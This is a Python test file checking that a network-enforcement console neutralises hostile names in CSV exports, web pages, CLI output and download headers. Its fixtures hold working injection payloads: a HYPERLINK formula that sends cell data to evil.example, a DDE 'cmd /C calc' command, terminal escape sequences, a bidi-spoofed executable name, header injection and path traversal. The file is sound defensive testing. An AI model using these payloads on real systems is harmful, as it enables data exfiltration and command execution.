"""Names from devices and logs that try to reach an admin: spreadsheet formulas in CSV exports,
terminal control sequences and bidirectional controls, hostile download file names."""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from pydantic import SecretStr
from sqlalchemy import Engine
from typer.testing import CliRunner

from enforcer.api import ApiLimits
from enforcer.catalog import load_catalog
from enforcer.config import Settings
from enforcer.discovery import reports
from enforcer.discovery.aggregate import Aggregator
from enforcer.discovery.attribute import Attributor
from enforcer.discovery.records import Record
from enforcer.store.rollups import merge_rollup
from enforcer.textsafe import csv_cell, cut, download_name, for_terminal, visible_bidi
from enforcer.webapp import create_web_app
from tests.api.conftest import running
from tests.console.conftest import ADMIN, ROOT, SECRET, Console, seed
from tests.console.test_access import session_cookie, sign_in

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
COMMAND = "-2+3+cmd|' /C calc'!A0"
ESCAPES = "pc-\x1b]0;owned\x07\x1b[2J"
BIDI = "invoice\u202egpj.exe"


def test_the_rules_one_by_one() -> None:
    assert csv_cell(FORMULA) == "'" + FORMULA and csv_cell(COMMAND) == "'" + COMMAND
    assert csv_cell("@SUM(1)") == "'@SUM(1)" and csv_cell("\tx") == "'\tx"
    assert csv_cell("alice") == "alice" and csv_cell(-3) == -3
    shown = for_terminal(ESCAPES)
    assert "\x1b" not in shown and "\x07" not in shown and shown.startswith("pc-\\x1b]0;owned")
    assert for_terminal(BIDI) == "invoice\\u202egpj.exe"
    assert cut("a" * 200, 20) == "a" * 19 + "…"
    assert visible_bidi(BIDI) == "invoice[U+202E]gpj.exe"
    assert download_name('a"; filename=x.sh\r\nSet-Cookie: y') == "a_filename_x.sh_Set-Cookie_y"
    assert download_name("../../etc/passwd") == "etc_passwd" and download_name("...") == "download"


def _seed(engine: Engine) -> None:
    now = dt.datetime.now(dt.UTC).timestamp()
    agg = Aggregator(Attributor(load_catalog()))
    agg.add_all(
        [
            Record(time=now - 600, host="slack.com", src_ip="10.7.0.1", user=user, device=device,
                   bytes_up=100, bytes_down=1000)
            for device, user in [(FORMULA, BIDI), (ESCAPES, COMMAND)]
        ]
    )  # fmt: skip
    merge_rollup(engine, agg.rollup())


def test_report_csv_neutralises_formulas() -> None:
    text = reports.to_csv([{"device": FORMULA, "user": COMMAND, "n": 1, "ips": ["=1", "b"]}])
    parsed = next(csv.DictReader(io.StringIO(text)))
    assert parsed == {"device": "'" + FORMULA, "user": "'" + COMMAND, "n": "1", "ips": "'=1;b"}


@pytest.fixture
def hostile_console(engine: Engine, tmp_path: Path) -> Iterator[Console]:
    """The console of conftest.py, its data holding the hostile names before it starts (its
    report cache warms up at start)."""
    policy_dir = tmp_path / "policies"
    shutil.copytree(ROOT / "policies", policy_dir)
    seed(engine, policy_dir)
    _seed(engine)
    settings = Settings(
        admin_token=SecretStr(ADMIN), enroll_secret=SecretStr(SECRET), policy_dir=policy_dir
    )
    with running(create_web_app(settings, engine, ApiLimits(poll_interval=0.1))) as url:
        yield Console(url, engine, policy_dir)


def test_the_console_exports_and_pages_neutralise_hostile_names(
    hostile_console: Console,
) -> None:
    with hostile_console.client() as client:
        cookie = session_cookie(sign_in(client))
        exported = client.get("/console/machines?format=csv", headers=cookie)
        cells = [row["device"] for row in csv.DictReader(io.StringIO(exported.text))]
        assert "'" + FORMULA in cells and FORMULA not in cells
        users = client.get("/console/users?format=csv", headers=cookie).text
        # User names are folded to lower case (one person, one row): the formula stays inert.
        assert "'" + COMMAND.lower() in users
        page = client.get("/console/users", headers=cookie).text
        assert "invoice[U+202E]gpj.exe" in page and "\u202e" not in page
        patch = client.get("/console/governance/patch", params={"app": 'x"\r\n.sh'}, headers=cookie)
        disposition = patch.headers.get("content-disposition", "")
        assert '"' not in disposition.split("filename=", 1)[-1].strip('"')


def test_cli_tables_show_control_characters_as_escapes(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    from enforcer.cli import app
    from enforcer.store.devices import enroll_device

    enroll_device(
        engine, device_id="d-1", hostname=ESCAPES, os="Linux", user="u", local_ips=(), groups=()
    )
    monkeypatch.setenv("ENFORCER_DATABASE_URL", str(engine.url.render_as_string(False)))
    result = CliRunner().invoke(app, ["devices", "list"])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "pc-\\x1b]0;owned" in result.output
